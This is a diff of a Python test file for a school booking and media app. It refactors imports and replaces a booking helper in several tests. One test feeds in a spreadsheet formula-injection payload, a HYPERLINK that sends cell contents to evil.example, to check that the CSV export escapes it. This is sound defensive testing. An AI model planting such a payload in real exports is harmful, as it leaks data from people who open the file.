@@ -21,18 +21,18 @@ import pytest
 from sqlalchemy import func, select
 
 from koin_media.accounts.services import create_token
+from koin_media.assets.downloads import download_filename
 from koin_media.assets.models import Asset, AssetDownload
-from koin_media.assets.routes import download_filename
 from koin_media.booking import services as booking_services
-from koin_media.booking.manage import spreadsheet_cell
-from koin_media.booking.schedule import LOCAL
+from koin_media.booking.exports import spreadsheet_cell
 from koin_media.extensions import db
+from koin_media.localtime import LOCAL
 from koin_media.notifications import jobs, outbox
 from koin_media.notifications.models import OutboxMessage
 from koin_media.storage import get_storage
 from koin_media.storage.base import safe_filename
 
-from .booking_helpers import make_program, make_slot, make_venue, request_fields, school_user
+from .booking_helpers import group_request, make_program, make_slot, make_venue, request_fields, school_user
 from .conftest import PASSWORD, Auth, csrf_token
 
 JPEG = b"\xff\xd8\xff\xe0" + b"0" * 2000
@@ -97,7 +97,7 @@ def test_spreadsheet_cell_escapes_formulas(value, phone, expected):
 
 def test_csv_export_escapes_a_formula_in_the_contact_name(client, auth, slot, manager, school):
     hostile = '+62+HYPERLINK("http://evil.example/?leak="&A2,"Klik")'
-    booking_services.book_slot(school, slot.id, **request_fields(contact_name=hostile))
+    booking_services.book_slot(school, slot.id, group_request(contact_name=hostile))
     auth.login(manager)
     day = slot.starts_at.astimezone(LOCAL).date().isoformat()
     response = client.get(f"/manage/bookings.csv?from={day}&to={day}")
@@ -360,7 +360,7 @@ def test_confirm_move_and_cancel_send_request_request_and_cancel(app, factory):
     program = make_program(venue)
     slot, later = make_slot(program, capacity=40), make_slot(program, starts_in=timedelta(days=9), capacity=40)
     teacher = school_user()
-    booking = booking_services.book_slot(teacher, slot.id, **request_fields())
+    booking = booking_services.book_slot(teacher, slot.id, group_request())
     booking_services.confirm(booking, manager)
     booking_services.move(booking, later, manager)
     booking_services.cancel(booking, manager, "Sirkuit dipakai balapan")
@@ -393,7 +393,7 @@ def test_cancelling_a_request_never_confirmed_sends_no_calendar(app, factory):
     program = make_program(venue)
     slot = make_slot(program, capacity=40)
     teacher = school_user()
-    booking = booking_services.book_slot(teacher, slot.id, **request_fields())
+    booking = booking_services.book_slot(teacher, slot.id, group_request())
     booking_services.cancel(booking, teacher)
     message = db.session.scalar(
         select(OutboxMessage).where(OutboxMessage.kind == "cancelled", OutboxMessage.to_address == teacher.email)
